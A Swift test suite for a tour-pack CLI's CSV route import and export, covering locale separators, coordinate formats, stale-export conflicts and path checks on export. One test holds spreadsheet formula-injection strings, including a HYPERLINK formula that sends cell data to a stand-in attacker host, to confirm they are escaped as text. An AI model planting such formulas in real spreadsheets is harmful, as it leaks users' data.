import Foundation
import PackAuthoring
import TestSupport
import XCTest

/// `packtool route import` of sheets as spreadsheets save them, and `route export` that runs no code (issue 45,
/// build items 1 and 2).
final class RouteCommandSheetTests: XCTestCase {
    private func snapshot(_ root: URL) throws -> [String: Data] { try RouteSheetFiles.snapshot(root) }
    private func exported(_ pack: URL) throws -> CSVTable { try CSVTable.parse(Array(try RouteSheetFiles.exported(pack).utf8)) }
    private func write(_ text: String, _ name: String = "route.csv") throws -> String { try RouteSheetFiles.write(text, name) }
    private func scene(_ pack: PackCopy, _ id: String) throws -> String {
        try String(contentsOf: pack.root.appendingPathComponent("stops/\(id)/scene.json"), encoding: .utf8)
    }

    /// The exported sheet as a spreadsheet in a decimal-comma locale saves it: `;` between cells, decimal commas,
    /// the eras' `;` inside quotes.
    private func semicolonSheet(_ table: CSVTable, edit: (inout [[String]]) -> Void = { _ in }) -> String {
        var records = table.records
        for r in records.indices.dropFirst() {
            for c in 2..<11 where Double(records[r][c]) != nil { records[r][c] = records[r][c].replacingOccurrences(of: ".", with: ",") }
        }
        edit(&records)
        return records.map { row in row.map { $0.contains(";") || $0.contains("\"") ? "\"" + $0.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : $0 }
            .joined(separator: ";") + "\r\n" }.joined()
    }

    func testASemicolonSheetWithDecimalCommasReadsEveryNumberAndWritesItWithAPoint() throws {
        let pack = try PackCopy()
        let before = try snapshot(pack.root)
        let table = try exported(pack.root)
        let same = try CLI.run(["route", "import", try write(semicolonSheet(table)), pack.root.path])
        XCTAssertEqual(same.status, 0, same.stderr)
        XCTAssertTrue(same.stdout.hasPrefix("nothing to change"), same.stdout)
        XCTAssertEqual(try snapshot(pack.root), before)

        let edited = semicolonSheet(table) { $0[3][2] = "55,95012"; $0[3][7] = "234,5" }
        XCTAssertTrue(edited.contains("03-mercat-cross;St Giles and the Mercat Cross;55,95012;-3,19004;"), edited)
        let r = try CLI.run(["route", "import", try write(edited), pack.root.path])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertTrue(r.stdout.contains("03-mercat-cross anchor.lat: 55.94979 → 55.95012 (from 55,95012)"), r.stdout)
        XCTAssertTrue(r.stdout.contains("03-mercat-cross view.bearing: 234.7 → 234.5 (from 234,5)"), r.stdout)
        let text = try scene(pack, "03-mercat-cross")
        XCTAssertTrue(text.contains("\"lat\": 55.95012,") && text.contains("\"bearing\": 234.5,"), text)
    }

    func testATabSeparatedSheetIsReadAndACommaSheetRefusesADecimalCommaNamingTheWayOut() throws {
        let pack = try PackCopy()
        let tab = try CLI.run(["route", "import", try write("id\tview.fov\r\n03-mercat-cross\t65,5\r\n"), pack.root.path])
        XCTAssertEqual(tab.status, 0, tab.stderr)
        XCTAssertTrue(tab.stdout.contains("03-mercat-cross view.fov: 70 → 65.5 (from 65,5)"), tab.stdout)
        let before = try snapshot(pack.root)
        let comma = try CLI.run(["route", "import", try write("id,view.fov\r\n03-mercat-cross,\"66,5\"\r\n"), pack.root.path])
        XCTAssertEqual(comma.status, 1)
        XCTAssertTrue(comma.stderr.contains("route.csv:2:view.fov: \"66,5\" is not a number: a decimal comma is read only in a sheet separated by \";\" or tabs"), comma.stderr)
        XCTAssertTrue(comma.stderr.contains("write 66.5"), comma.stderr)
        XCTAssertEqual(try snapshot(pack.root), before)
    }

    /// Degrees, minutes and seconds with marks, without them, and with the hemisphere first; the dry run shows the
    /// decimal value each becomes and writes nothing, the import writes that value.
    func testDegreesMinutesSecondsAreReadAndShownInDecimalInTheDryRun() throws {
        let pack = try PackCopy()
        let before = try snapshot(pack.root)
        let csv = "id,anchor.lat,anchor.lon,view.target.lat\r\n03-mercat-cross,55°56′59.3″N,\"3°11'24.1\"\"W\",N 55° 56.980'\r\n"
            + "04-tron-kirk,55 57 1.0 N,3 11 15.9 W,55.950096\r\n"
        let dry = try CLI.run(["route", "import", try write(csv), pack.root.path, "--dry-run"])
        XCTAssertEqual(dry.status, 0, dry.stderr)
        XCTAssertTrue(dry.stdout.contains("03-mercat-cross anchor.lat: 55.94979 → 55.949806 (from 55°56′59.3″N)"), dry.stdout)
        XCTAssertTrue(dry.stdout.contains("03-mercat-cross anchor.lon: -3.19004 → -3.190028 (from 3°11'24.1\"W)"), dry.stdout)
        XCTAssertTrue(dry.stdout.contains("03-mercat-cross view.target.lat: 55.94965 → 55.949667 (from N 55° 56.980')"), dry.stdout)
        XCTAssertTrue(dry.stdout.contains("04-tron-kirk anchor.lat: 55.95028 → 55.950278 (from 55 57 1.0 N)"), dry.stdout)
        XCTAssertEqual(try snapshot(pack.root), before, "a dry run writes nothing")

        let r = try CLI.run(["route", "import", "--format", "json", try write(csv), pack.root.path])
        XCTAssertEqual(r.status, 0, r.stderr)
        let text = try scene(pack, "03-mercat-cross")
        XCTAssertTrue(text.contains("\"lat\": 55.949806,\n    \"lon\": -3.190028"), text)
        let report = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any])
        let cells = try XCTUnwrap((report["stops"] as? [[String: Any]])?.first?["cells"] as? [[String: Any]])
        XCTAssertEqual(cells.first?["old"] as? String, "55.94979")
        XCTAssertEqual(cells.first?["new"] as? String, "55.949806")
        XCTAssertEqual(cells.first?["sheet"] as? String, "55°56′59.3″N")
    }

    /// The example's bearings are what lint works out; a slipped bearing left blank in the sheet gets that value back.
    func testABlankBearingIsWorkedOutFromTheTargetAsLintFixesIt() throws {
        let pack = try PackCopy()
        try pack.edit("stops/01-castle-esplanade/scene.json", replacing: "\"bearing\": 258.9", with: "\"bearing\": 250")
        let r = try CLI.run(["route", "import", try write("id,view.bearing\r\n01-castle-esplanade,\r\n02-gladstones-land, \r\n"), pack.root.path])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertTrue(r.stdout.contains("01-castle-esplanade view.bearing: 250 → 258.9 (worked out from the target)"), r.stdout)
        XCTAssertFalse(r.stdout.contains("02-gladstones-land"), "356.2 is already the bearing to its target")
        XCTAssertTrue(try scene(pack, "01-castle-esplanade").contains("\"bearing\": 258.9,"))

        // A new stop with a target gets its bearing the same way; one without a target is told what is missing.
        let header = "id,title,anchor.lat,anchor.lon,view.target.name,view.target.lat,view.target.lon,view.bearing,view.fov,eras\r\n"
        let new = try CLI.run(["route", "import", try write(header + "08-castle-again,Again,55.94873,-3.19744,Gate,55.948591,-3.198701,,64,1824\r\n"), pack.root.path])
        XCTAssertEqual(new.status, 0, new.stderr)
        XCTAssertTrue(try scene(pack, "08-castle-again").contains("\"bearing\": 258.9,"))
        let before = try snapshot(pack.root)
        let none = try CLI.run(["route", "import", try write(header + "09-no-target,None,55.95,-3.18,,,,,64,1824\r\n"), pack.root.path])
        XCTAssertEqual(none.status, 1)
        XCTAssertTrue(none.stderr.contains("route.csv:2:view.bearing: empty, but 09-no-target is a new stop and needs one (or a view.target to work it out from)"), none.stderr)
        let removed = try CLI.run(["route", "import", try write("id,view.bearing,view.target.name,view.target.lat,view.target.lon\r\n01-castle-esplanade,,,,\r\n"), pack.root.path])
        XCTAssertEqual(removed.status, 1)
        XCTAssertTrue(removed.stderr.contains("route.csv:2:view.bearing: empty, and there is no view.target to work it out from"), removed.stderr)
        XCTAssertEqual(try snapshot(pack.root), before)
    }

    /// A sheet exported before `lint --fix` corrected a bearing: importing it (with an unrelated title edit) is
    /// refused naming the cell that would put the mistake back, and writes nothing; a cell changed on both sides is
    /// named too; --force imports the sheet as it is.
    func testASheetExportedBeforeLintFixIsNamedAndNeedsForce() throws {
        let pack = try PackCopy()
        try pack.edit("stops/01-castle-esplanade/scene.json", replacing: "\"bearing\": 258.9", with: "\"bearing\": 250.9")
        try pack.edit("stops/02-gladstones-land/scene.json", replacing: "\"bearing\": 356.2", with: "\"bearing\": 340")
        var table = try exported(pack.root)
        let fix = try CLI.run(["lint", "--fix", pack.root.path])
        XCTAssertTrue(try scene(pack, "01-castle-esplanade").contains("\"bearing\": 258.9,"), fix.stdout + fix.stderr)
        table.records[1][1] = "The Castle Esplanade, from the gate"
        table.records[2][7] = "350"
        let before = try snapshot(pack.root)
        let sheet = try write(table.text)
        for extra in [[], ["--dry-run"]] {
            let r = try CLI.run(["route", "import", sheet, pack.root.path] + extra)
            XCTAssertEqual(r.status, 1, r.stdout)
            XCTAssertTrue(r.stderr.contains("route.csv:2:view.bearing: would put back 250.9 over 258.9, which scene.json has said since the sheet was exported"), r.stderr)
            XCTAssertTrue(r.stderr.contains("route.csv:3:view.bearing: 350 in the sheet, but scene.json also changed this value after the sheet was exported (it says 356.2 now)"), r.stderr)
            XCTAssertFalse(r.stderr.contains(":title:"), "the title was changed in the sheet alone")
            XCTAssertTrue(r.stderr.contains("nothing was written"), r.stderr)
            XCTAssertEqual(try snapshot(pack.root), before)
        }
        let forced = try CLI.run(["route", "import", sheet, pack.root.path, "--force"])
        XCTAssertEqual(forced.status, 0, forced.stderr)
        XCTAssertTrue(forced.stdout.contains("--force: 01-castle-esplanade view.bearing overwrote 258.9"), forced.stdout)
        XCTAssertTrue(try scene(pack, "01-castle-esplanade").contains("\"bearing\": 250.9,"))
        XCTAssertTrue(try scene(pack, "02-gladstones-land").contains("\"bearing\": 350,"))

        // A fresh export imports without complaint, and an emptied `exported` cell skips the check for its row.
        let again = try CLI.run(["route", "import", try write(try exported(pack.root).text), pack.root.path])
        XCTAssertTrue(again.stdout.hasPrefix("nothing to change"), again.stdout + again.stderr)
        table.records[1][12] = ""
        table.records[2][12] = "v1-edited"
        let unchecked = try CLI.run(["route", "import", try write(table.text), pack.root.path])
        XCTAssertEqual(unchecked.status, 1)
        XCTAssertTrue(unchecked.stderr.contains("route.csv:3:exported: \"v1-edited\" is not what `route export` writes"), unchecked.stderr)
        XCTAssertFalse(unchecked.stderr.contains("route.csv:2:"), unchecked.stderr)
    }

    /// Titles and target names that a spreadsheet would run as formulas (or that begin with an apostrophe) are written
    /// as quoted text with one apostrophe before them; numbers, negative ones included, are left as numbers; the
    /// sheet imports back to byte-identical scenes.
    func testEveryFormulaLeadingValueRoundTripsUnchangedAndIsTextInTheCSV() throws {
        let pack = try PackCopy()
        let titles = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+44 131 225 0000", "-3", "@SUM(A1:A9)",
                      "\tTabbed in", "\rReturned", "'Tis the Tron"]
        let targets = ["=1+2", "-Minus-", "''Two apostrophes", "+", "@", "=", "'"]
        var table = try exported(pack.root)
        for (i, row) in table.records.indices.dropFirst().enumerated() {
            table.records[row][1] = "'" + titles[i]
            table.records[row][4] = "'" + targets[i]
        }
        let r = try CLI.run(["route", "import", try write(table.text), pack.root.path])
        XCTAssertEqual(r.status, 0, r.stderr)
        let scenes = try snapshot(pack.root)

        let csv = try RouteSheetFiles.exported(pack.root)
        XCTAssertTrue(csv.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\",55.94873,-3.19744,\"'=1+2\","), csv)
        XCTAssertTrue(csv.contains(",\"''Tis the Tron\",") && csv.contains(",\"'''Two apostrophes\","), csv)
        XCTAssertTrue(csv.contains(",\"'\t"), csv)
        let back = try CSVTable.parse(Array(csv.utf8)).records
        for (i, row) in back.dropFirst().enumerated() {
            XCTAssertEqual(RouteCell.unescaped(row[1]), titles[i])
            XCTAssertEqual(RouteCell.unescaped(row[4]), targets[i])
            for cell in row where cell.first.map({ "=+-@\t\r".contains($0) }) ?? false {
                XCTAssertNotNil(Double(cell), "only numbers may begin with a formula character: \(cell)")
            }
        }
        let again = try CLI.run(["route", "import", try write(csv), pack.root.path])
        XCTAssertTrue(again.stdout.hasPrefix("nothing to change"), again.stdout + again.stderr)
        XCTAssertEqual(try snapshot(pack.root), scenes)
        XCTAssertEqual(try RouteSheetFiles.exported(pack.root), csv)
    }

    func testMalformedSheetsGiveClearErrorsAndChangeNothing() throws {
        let pack = try PackCopy()
        let before = try snapshot(pack.root)
        let cases: [(String, String)] = [
            ("id,anchor.lat\r\n03-mercat-cross,55°61′0″N\r\n", "route.csv:2:anchor.lat: 61 minutes is 60 or more"),
            ("id,anchor.lon\r\n03-mercat-cross,3°11′24″N\r\n", "route.csv:2:anchor.lon: N is a latitude's hemisphere; a longitude takes E or W"),
            ("id,anchor.lat\r\n03-mercat-cross,55°56′x″N\r\n",
             "route.csv:2:anchor.lat: \"55°56′x″N\" is not a number or degrees-minutes-seconds (e.g. 55.94873, 55°56′55.4″N or 55 56 55.4 N)"),
            ("id;title,anchor.lat\r\n03-mercat-cross;Cross,55.9\r\n", "route.csv:1: the header row is separated by both \",\" and \";\""),
            ("id;title;view.fov\r\n03-mercat-cross,The Cross,65\r\n",
             "route.csv:2: 1 cell, but the header row has 3 (are its cells separated by \",\"? the header row uses \";\")"),
            ("id,title\r\n03-mercat-cross,The Cross,65\r\n", "route.csv:2: 3 cells, but the header row has 2"),
        ]
        for (csv, message) in cases {
            let r = try CLI.run(["route", "import", try write(csv), pack.root.path])
            XCTAssertEqual(r.status, 1, csv)
            XCTAssertTrue(r.stderr.contains(message), r.stderr)
            XCTAssertTrue(r.stderr.contains("nothing was written"), r.stderr)
        }
        XCTAssertEqual(try snapshot(pack.root), before)
    }

    /// The sheet is never written into the pack, by any spelling (an outside attack overwrote pack.json, a scene.json
    /// and a sign-off with it), and the preview and publisher refuse the same paths by the same test.
    func testExportNeverWritesIntoThePack() throws {
        let pack = try PackCopy()
        let before = try snapshot(pack.root)
        for out in ["pack.json", "stops/01-castle-esplanade/scene.json", "stops/02-gladstones-land/signoff.json", "route.csv",
                    "stops/../stops/x.csv"] {
            let r = try CLI.run(["route", "export", pack.root.path, "--out", pack.root.path + "/" + out])
            XCTAssertEqual(r.status, 2, out)
            XCTAssertTrue(r.stderr.contains("is inside the pack folder"), r.stderr)
        }
        let link = try temporaryDirectory() + "/into-pack"
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: pack.root.path)
        XCTAssertEqual(try CLI.run(["route", "export", pack.root.path, "--out", link + "/pack.json"]).status, 2, "through a link")
        XCTAssertEqual(try snapshot(pack.root), before)
    }

    /// A value the sheet cannot hold (true, null, a list, text in a number field, a year that is not a number) makes
    /// export refuse, naming it, instead of writing an empty cell an import would then delete; a cell whose object is
    /// missing from scene.json makes import refuse instead of dropping it and saying "nothing to change".
    func testValuesTheSheetCannotHoldOrPlaceAreRefusedNotDropped() throws {
        for (from, to, message) in [("\"fov\": 70", "\"fov\": true", "\"view.fov\" is boolean, not a number"),
                                    ("\"fov\": 70", "\"fov\": \"70\"", "\"view.fov\" is string, not a number"),
                                    ("\"anchor\": {", "\"anchor\": null, \"x\": {", "\"anchor\" is null, not an object")] {
            let pack = try PackCopy()
            try pack.edit("stops/03-mercat-cross/scene.json", replacing: from, with: to)
            let r = try CLI.run(["route", "export", pack.root.path])
            XCTAssertEqual(r.status, 1, to)
            XCTAssertTrue(r.stderr.contains("stops/03-mercat-cross/scene.json: \(message); the sheet cannot hold it"), r.stderr)
        }
        let pack = try PackCopy()
        let sheet = try write(try RouteSheetFiles.exported(pack.root))
        let scene = pack.root.appendingPathComponent("stops/03-mercat-cross/scene.json")
        let text = try String(contentsOf: scene, encoding: .utf8)
        let anchor = try XCTUnwrap(text.range(of: #""anchor": \{[^}]*\},\s*"#, options: .regularExpression))
        try text.replacingCharacters(in: anchor, with: "").write(to: scene, atomically: true, encoding: .utf8)
        let before = try snapshot(pack.root)
        let r = try CLI.run(["route", "import", sheet, pack.root.path, "--force"])
        XCTAssertEqual(r.status, 1, r.stdout)
        XCTAssertTrue(r.stderr.contains(":anchor.lat: scene.json has no \"anchor\" object to hold it"), r.stderr)
        XCTAssertEqual(try snapshot(pack.root), before)
    }

    /// As spreadsheets also save: Excel's `sep=;` line and empty trailing columns are read past (a value under a
    /// column without a name is refused); a sheet of more rows than any route is refused before it costs minutes.
    func testExcelsSepLineAndEmptyTrailingColumnsAreReadAndAHugeSheetIsRefused() throws {
        let pack = try PackCopy()
        let sheet = try semicolonSheet(try exported(pack.root)) { records in
            for r in records.indices { records[r] += ["", ""] }
            records[3][1] = "Mercat Cross, moved"
        }
        let r = try CLI.run(["route", "import", try write("sep=;\r\n" + sheet), pack.root.path, "--force"])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertTrue(try scene(pack, "03-mercat-cross").contains("\"title\": \"Mercat Cross, moved\""), r.stdout)
        let stray = try semicolonSheet(try exported(pack.root)) { records in
            for r in records.indices { records[r] += [""] }
            records[2][records[2].count - 1] = "x"
        }
        let refused = try CLI.run(["route", "import", try write(stray), pack.root.path])
        XCTAssertEqual(refused.status, 1)
        XCTAssertTrue(refused.stderr.contains("route.csv:3: a value in column "), refused.stderr)
        let huge = "id,title\r\n" + (0..<2001).map { "\(String(format: "%03d", $0 % 1000))-s\($0),T\r\n" }.joined()
        let big = try CLI.run(["route", "import", try write(huge), pack.root.path, "--dry-run"])
        XCTAssertEqual(big.status, 1)
        XCTAssertTrue(big.stderr.contains("2001 rows; a route sheet holds at most 2000 stops"), big.stderr)
    }

    func testTheHelpDescribesSeparatorsDegreesBlankBearingsTheEscapeAndForce() throws {
        let r = try CLI.run(["route", "--help"])
        XCTAssertEqual(r.status, 0)
        for phrase in ["semicolons or tabs", "degrees,", "A blank view.bearing is worked out", "runs no formula", "--force", "old value → new value"] {
            XCTAssertTrue(r.stdout.contains(phrase), phrase)
        }
    }
}
